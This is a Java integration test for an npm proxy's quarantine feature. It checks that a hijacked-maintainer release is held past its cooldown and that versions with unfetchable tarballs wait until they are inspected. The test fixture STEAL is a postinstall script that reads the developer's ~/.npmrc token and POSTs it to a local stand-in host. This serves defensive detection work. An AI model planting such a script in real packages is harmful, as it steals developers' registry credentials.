package dev.lazaret.proxy.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.lazaret.policy.content.CodeFinding;
import dev.lazaret.policy.content.ContentFacts;
import dev.lazaret.proxy.config.AdminAccess;
import dev.lazaret.proxy.config.AdminToken;
import dev.lazaret.proxy.config.QuarantineSettings;
import dev.lazaret.proxy.config.Role;
import dev.lazaret.proxy.quarantine.HoldRecord;
import dev.lazaret.proxy.quarantine.HoldState;
import dev.lazaret.proxy.quarantine.QuarantineService;
import dev.lazaret.proxy.testing.FakeUpstream;
import dev.lazaret.proxy.testing.GeneratedPackage;
import dev.lazaret.proxy.testing.PackageGenerator;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hijacked maintainer account, caught by what its release holds: an established package whose
 * new version, published by its usual maintainer, adds a postinstall script that reads the
 * developer's npm token and sends it away. Nothing in the packument is unusual but the script;
 * once the tarball is inspected, the version stays hidden past the base cooldown, held as
 * risky, with the added file in the hold's diff. And a version whose tarball cannot be fetched
 * is not served before it is inspected, which is asked for again until it succeeds.
 */
class ContentQuarantineTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Instant NOW = Instant.parse("2026-03-10T12:00:00Z");
  private static final Duration YEAR = Duration.ofDays(365);
  private static final String VIEWER = "viewer-secret-0001";
  /** Reads the npm token and posts it: what the 2025 maintainer-account takeovers shipped. */
  private static final String STEAL = """
      const fs = require('fs');
      const os = require('os');
      const https = require('https');
      const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
      const req = https.request({ hostname: '127.0.0.1', port: 9, path: '/c', method: 'POST' });
      req.end(npmrc);
      """;
  /** Enough prose that no version is a "thin" package (the tarball is not tiny). */
  private static final String README = "# tidy-colors\n\n"
      + "Colours for terminals, tidily.\n".repeat(200);
  private static final String UTIL = "exports.pad = (s, n) => String(s).padStart(n);\n";

  private final MutableClock clock = new MutableClock(NOW);
  private final PackageGenerator gen = PackageGenerator.seeded(13).at(NOW);
  @TempDir Path data;
  private FakeUpstream upstream;
  private RunningProxy proxy;

  @AfterEach
  void stop() {
    if (proxy != null) {
      proxy.close();
    }
    if (upstream != null) {
      upstream.close();
    }
  }

  /** Four years of releases by alice; 1.3.0, an hour old, adds the postinstall. */
  private GeneratedPackage hijacked() {
    return gen.pkg("tidy-colors").maintainer("alice")
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(4))
            .file("README.md", README).file("lib/util.js", UTIL))
        .version("1.1.0", v -> v.publishedAgo(YEAR.multipliedBy(2))
            .file("README.md", README).file("lib/util.js", UTIL))
        .version("1.2.0", v -> v.publishedAgo(YEAR)
            .file("README.md", README).file("lib/util.js", UTIL))
        .version("1.3.0", v -> v.publishedAgo(Duration.ofHours(1))
            .file("README.md", README).file("lib/util.js", UTIL).file("steal.js", STEAL)
            .script("postinstall", "node steal.js"))
        .done();
  }

  @Test
  void aTokenStealingPostinstallStaysHiddenPastTheBaseCooldown() throws Exception {
    GeneratedPackage pkg = hijacked();
    upstream = FakeUpstream.start(clock).publish(pkg);
    proxy = RunningProxy.start(upstream, data, clock,
        s -> s.withQuarantine(QuarantineSettings.defaults())
            .withOperations(s.operations().withAdminAccess(AdminAccess.none()
                .withToken(AdminToken.ofSecret("vera", Role.VIEWER, VIEWER)))));
    assertThat(versions(proxy.get("/tidy-colors"))).doesNotContain("1.3.0");
    inspectionsDone();

    // What the inspection found, as the quarantine judges it.
    ContentFacts facts = proxy.lazaret().inspections().store()
        .contentFacts("tidy-colors", "1.3.0").orElseThrow();
    assertThat(facts.complete()).isTrue();
    assertThat(facts.previousVersion()).isEqualTo("1.2.0");
    assertThat(facts.installScripts()).containsEntry("postinstall", "node steal.js");
    ContentFacts.ChangedFile steal = facts.changed().stream()
        .filter(f -> f.path().equals("steal.js")).findFirst().orElseThrow();
    assertThat(steal.change()).isEqualTo(ContentFacts.Change.ADDED);
    assertThat(steal.runAtInstall()).isTrue();
    assertThat(steal.findings()).extracting(CodeFinding::kind)
        .contains(CodeFinding.Kind.SECRET_READ, CodeFinding.Kind.NETWORK_CALL);

    // A day later the base cooldown is over; the script and what it does keep it held.
    clock.advance(Duration.ofDays(1));
    HttpResponse<byte[]> packument = proxy.get("/tidy-colors");
    assertThat(packument.statusCode()).isEqualTo(200);
    assertThat(versions(packument)).containsExactly("1.0.0", "1.1.0", "1.2.0");
    assertThat(JSON.readTree(packument.body()).path("dist-tags").path("latest").asText())
        .isEqualTo("1.2.0");
    HttpResponse<byte[]> tarball = proxy.get(pkg.version("1.3.0").tarballPath());
    assertThat(tarball.statusCode()).isEqualTo(403);
    String error = JSON.readTree(tarball.body()).path("error").asText();
    assertThat(error).startsWith("tidy-colors@1.3.0 is held, released in ")
        .contains("postinstall", "steal.js").endsWith("ask your security team to review it");

    HoldRecord hold = quarantine().holds().find("tidy-colors", "1.3.0").orElseThrow();
    assertThat(hold.state()).isEqualTo(HoldState.HELD);
    assertThat(hold.risky()).as("flagged: " + hold.reasons()).isTrue();
    JsonNode files = JSON.readTree(proxy.getAdmin("/api/explain/tidy-colors/1.3.0", VIEWER)
        .body()).path("diff").path("files");
    assertThat(files.path("against").asText()).isEqualTo("1.2.0");
    assertThat(files.path("added")).extracting(f -> f.path("path").asText())
        .containsExactly("steal.js");
    assertThat(files.path("scriptFiles").path("steal.js").asText()).isEqualTo(STEAL);
  }

  @Test
  void aVersionWhoseTarballCannotBeFetchedWaitsForItsInspectionAndIsServedOnceInspected()
      throws Exception {
    GeneratedPackage pkg = gen.pkg("patient-lib").maintainer("alice")
        .version("1.0.0", v -> v.publishedAgo(YEAR.multipliedBy(2)))
        .version("1.1.0", v -> v.publishedAgo(Duration.ofHours(1)))
        .done();
    upstream = FakeUpstream.start(clock).publish(pkg);
    upstream.fail(path -> path.endsWith(".tgz"), 500);
    proxy = RunningProxy.start(upstream, data, clock,
        s -> s.withQuarantine(QuarantineSettings.defaults()));
    assertThat(versions(proxy.get("/patient-lib"))).containsExactly("1.0.0");
    inspectionsDone();
    assertThat(proxy.lazaret().inspections().failed()).isPositive();
    assertThat(proxy.lazaret().inspections().store().contentFacts("patient-lib", "1.1.0"))
        .as("a download that failed is no content failure: nothing stored").isEmpty();

    // Past its base cooldown, it waits for the inspection (asked for again by the judgement).
    clock.advance(Duration.ofDays(1));
    HttpResponse<byte[]> waiting = proxy.get("/patient-lib/1.1.0");
    assertThat(waiting.statusCode()).isEqualTo(403);
    inspectionsDone();
    HoldRecord hold = quarantine().holds().find("patient-lib", "1.1.0").orElseThrow();
    assertThat(hold.state()).isEqualTo(HoldState.HELD);
    assertThat(hold.risky()).isFalse();
    assertThat(hold.reasons()).contains("Waiting for its tarball to be inspected.");

    // The upstream recovers; a verdict with a version awaiting inspection is made again after
    // 60 s, which asks again, and the stored inspection has the package judged again at once.
    upstream.heal();
    clock.advance(Duration.ofSeconds(61));
    assertThat(versions(proxy.get("/patient-lib"))).containsExactly("1.0.0");
    inspectionsDone();
    assertThat(proxy.lazaret().inspections().store().contentFacts("patient-lib", "1.1.0"))
        .isPresent();
    assertThat(versions(proxy.get("/patient-lib"))).containsExactly("1.0.0", "1.1.0");
    assertThat(proxy.get(pkg.version("1.1.0").tarballPath()).statusCode()).isEqualTo(200);
  }

  private QuarantineService quarantine() {
    QuarantineService q = proxy.lazaret().quarantine().orElseThrow();
    assertThat(q.awaitRecorded(Duration.ofSeconds(30))).as("holds recorded").isTrue();
    return q;
  }

  /** Waits until new holds are recorded and the inspections they queued are done. */
  private void inspectionsDone() throws Exception {
    quarantine();
    proxy.lazaret().inspections().idle().get(30, TimeUnit.SECONDS);
  }

  private static List<String> versions(HttpResponse<byte[]> packument)
      throws IOException {
    List<String> out = new ArrayList<>();
    JSON.readTree(packument.body()).path("versions").fieldNames().forEachRemaining(out::add);
    return out;
  }
}
